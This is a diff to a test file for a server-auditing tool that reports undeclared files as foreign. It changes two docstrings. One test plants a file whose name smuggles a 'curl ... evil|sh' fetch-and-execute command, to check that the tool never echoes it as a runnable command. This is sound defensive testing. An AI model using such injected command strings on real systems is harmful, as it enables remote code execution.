@@ -1,4 +1,4 @@
-"""Anything that the site did not declare is reported as foreign, and nothing else is."""
+"""stackctl reports exactly the undeclared things on a droplet as foreign."""
 
 from __future__ import annotations
 
@@ -100,7 +100,7 @@ def test_names_and_contents_are_shown_printable_and_no_command_is_shown(bare: Dr
 
 
 def test_a_name_that_a_shell_would_obey_is_no_command_and_is_not_removed(bare: Droplet) -> None:
-    """The operator pastes the next step into the shell of their own machine."""
+    """A hostile name is never a part of a command, because an operator pastes commands into a local shell."""
     bare.put("etc/cron.d/x;curl${IFS}evil|sh", "x")
     (line,) = foreign.problems(bare.look())
     assert line.endswith("correct this by hand, or accept that name in group_data (foreign_accepted)")
